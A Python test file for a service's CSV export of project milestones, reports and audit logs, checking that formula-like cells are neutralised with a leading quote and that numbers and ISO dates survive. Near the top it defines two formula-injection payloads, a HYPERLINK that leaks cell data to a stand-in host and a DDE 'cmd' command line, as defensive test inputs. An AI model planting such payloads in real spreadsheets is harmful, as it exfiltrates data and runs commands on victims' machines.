"""Spreadsheets (issue 17 item 4): ``format=csv`` on a project's milestones, on the report and on
the audit trail; the same columns as the JSON, ISO 8601 dates, and no cell a spreadsheet would
run as a formula (numbers stay numbers)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from services.domain.reporting import MilestoneLine
from services.query import answers
from services.query.spreadsheets import FORMULA_FIRST, as_csv, cell
from tests.conftest import cloudevent, request

EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
EVIL_ACTOR = "=cmd|' /C calc'!A0"


def read(text: str) -> list[list[object]]:
    """Rows as a spreadsheet sees them: quoted cells text, bare ones numbers."""
    return list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))


# -- the cell rule, pure ------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+1", "+41 555", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_a_text_a_spreadsheet_would_run_gets_a_quote_first(text):
    assert cell(text) == "'" + text
    assert read(as_csv([{"c": text}], ["c"]))[1] == ["'" + text]


def test_every_dangerous_first_character_is_covered():
    assert set(FORMULA_FIRST) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("text", ["plain", "", "'quoted already", " =spaced", "a=b", "2026-12-01"])
def test_other_text_is_left_as_it_is(text):
    assert cell(text) == text


def test_numbers_stay_numbers_negative_ones_too():
    assert (cell(-3), cell(-2.5), cell(0), cell(42)) == (-3, -2.5, 0, 42)
    text = as_csv([{"slip": -3, "rate": -0.25}], ["slip", "rate"])
    assert text.splitlines()[1] == "-3,-0.25"  # bare: a spreadsheet reads numbers
    assert read(text)[1] == [-3.0, -0.25]


def test_null_booleans_and_non_finite_numbers():
    assert (cell(None), cell(True), cell(False), cell(float("nan"))) == ("", "true", "false", "")


def test_dates_and_times_are_iso_8601_as_in_the_json():
    assert cell(dt.date(2026, 12, 1)) == "2026-12-01"
    assert cell(dt.datetime(2026, 11, 24, 10, tzinfo=dt.UTC)) == "2026-11-24T10:00:00Z"
    aware = dt.datetime(2026, 11, 24, 10, 30, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    assert cell(aware) == "2026-11-24T10:30:00+02:00"


def test_nested_values_are_compact_json_in_one_cell():
    assert cell({"a": [1, "=x"], "b": None}) == '{"a":[1,"=x"],"b":null}'
    assert cell(["-x", "@y"]) == '["-x","@y"]'  # JSON starts with [ or {: nothing to run
    # a Struct as the JSON answer writes it
    assert json.loads(str(cell(answers.NextMilestone(**_next())))) == {
        **_next(),
        "due": "2026-12-01",
    }


def _next() -> dict:
    return {"milestone_id": "m1", "name": "=x", "due": dt.date(2026, 12, 1), "health": "ok"}


def test_quotes_commas_and_newlines_stay_in_their_cell():
    tricky = 'he said "ship it", then\r\nleft; =1+1'
    text = as_csv([{"a": tricky, "b": "-1", "c": 7}], ["a", "b", "c"])
    assert read(text) == [["a", "b", "c"], [tricky, "'-1", 7.0]]
    assert text.startswith('"a","b","c"\r\n')  # text quoted: one cell under any separator


# -- against the real services ------------------------------------------------------------------
async def seed(nc) -> int:
    ces = [
        cloudevent("ProjectCreated", {"project_id": "sheet", "name": "Sheet"}),
        cloudevent(
            "MilestonePlanned",
            {
                "project_id": "sheet",
                "milestone_id": "evil",
                "name": EVIL_NAME,
                "kind": "event",
                "due": "2027-03-10",
                "phase": "+phase",
                "success_criteria": "@ops signs it off",
            },
        ),
        cloudevent(
            "TaskAdded",
            {"project_id": "sheet", "milestone_id": "evil", "task_id": "t1", "title": "-first"},
        ),
        cloudevent(
            "MilestonePlanned",
            {
                "project_id": "sheet",
                "milestone_id": "plain",
                "name": "Launch",
                "kind": "time",
                "due": "2027-04-01",
                "order": 1,
            },
        ),
        cloudevent(
            "DependencyAdded",
            {"project_id": "sheet", "milestone_id": "plain", "depends_on": "evil", "lag_days": 3},
        ),
        cloudevent(
            "MilestoneRescheduled",
            {
                "project_id": "sheet",
                "milestone_id": "evil",
                "new_due": "2027-03-08",
                "reason": "@vendor: two days early",
            },
            actor=EVIL_ACTOR,
        ),
    ]
    reply = await request(nc, ces)
    assert reply.accepted, reply
    return reply.events[-1].position


def expected(value: object) -> object:
    """A JSON value as its CSV cell reads back (``read``), by the README's rule."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return float(value)
    if isinstance(value, str):
        return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value
    return value  # nested: compared as parsed JSON


def assert_same(header: list, row: list, item: dict) -> None:
    for name, got in zip(header, row, strict=True):
        want = expected(item[name])
        if isinstance(item[name], dict | list):
            assert isinstance(got, str) and json.loads(got) == want, name
        else:
            assert got == want, (name, got, want)


def assert_no_formula(rows: list[list[object]]) -> None:
    for row in rows:
        for value in row:
            assert not (isinstance(value, str) and value.startswith(FORMULA_FIRST)), value


async def test_milestones_csv_is_every_milestone_with_the_jsons_columns(api, nc):
    position = await seed(nc)
    params = {"min_position": position, "sort": "order"}
    items = (await api.get("/projects/sheet/milestones", params=params)).json()["data"]
    # limit pages the JSON; a spreadsheet is the whole table
    r = await api.get("/projects/sheet/milestones", params={**params, "format": "csv", "limit": 1})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == 'attachment; filename="sheet-milestones.csv"'
    header, *rows = read(r.text)
    assert header == list(answers.Milestone.__struct_fields__)
    assert set(header) == set(items[0]) and len(rows) == len(items) == 2
    for row, item in zip(rows, items, strict=True):
        assert_same(header, row, item)
    evil = dict(zip(header, rows[0], strict=True))
    assert evil["name"] == "'" + EVIL_NAME and evil["phase"] == "'+phase"
    assert evil["success_criteria"] == "'@ops signs it off"
    assert evil["due"] == "2027-03-08" and json.loads(str(evil["tasks"])) == {"t1": False}
    assert_no_formula(rows)
    # the filters apply as to the pages
    timed = await api.get(
        "/projects/sheet/milestones", params={**params, "format": "csv", "kind": "time"}
    )
    assert [row[1] for row in read(timed.text)[1:]] == ["plain"]
    unknown = await api.get("/projects/nope/milestones", params={"format": "csv"})
    assert (unknown.status_code, unknown.json()["error"]["code"]) == (404, "not_found")


async def test_report_csv_is_its_milestone_lines_and_a_slip_stays_a_number(api, nc):
    await seed(nc)
    report = (await api.get("/projects/sheet/report")).json()["data"]
    r = await api.get("/projects/sheet/report", params={"format": "csv"})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == 'attachment; filename="sheet-report.csv"'
    header, *rows = read(r.text)
    assert header == list(MilestoneLine.__struct_fields__) == list(report["milestones"][0])
    assert len(rows) == len(report["milestones"]) == 2
    for row, line in zip(rows, report["milestones"], strict=True):
        assert_same(header, row, line)
    evil = dict(zip(header, rows[0], strict=True))
    assert (evil["name"], evil["slip_days"]) == ("'" + EVIL_NAME, -2.0)
    assert ",-2," in r.text.splitlines()[1]  # bare: a number, not neutralised text
    assert_no_formula(rows)
    # compared with another day: the lines of now (the JSON's "now")
    compared = await api.get(
        "/projects/sheet/report", params={"format": "csv", "compare_as_of": "2026-11-01"}
    )
    assert (compared.status_code, compared.text) == (200, r.text)


async def test_the_audit_csv_neutralises_text_cells_too(api, nc):
    position = await seed(nc)
    r = await api.get(
        "/audit", params={"format": "csv", "project_id": "sheet", "min_position": position}
    )
    assert r.status_code == 200, r.text
    header, *rows = read(r.text)
    by_type = {row[header.index("type")]: dict(zip(header, row, strict=True)) for row in rows}
    moved = by_type["MilestoneRescheduled"]
    assert moved["actor"] == "'" + EVIL_ACTOR
    assert json.loads(str(moved["payload"]))["reason"] == "@vendor: two days early"  # kept whole
    planned = [
        json.loads(str(row[header.index("payload")]))
        for row in rows
        if row[header.index("type")] == "MilestonePlanned"
    ]
    assert EVIL_NAME in [p["name"] for p in planned]
    assert isinstance(moved["position"], float)  # positions are numbers
    assert moved["occurred_at"] == "2026-11-24T10:00:00Z"  # ISO 8601, as in the JSON
    assert_no_formula(rows)
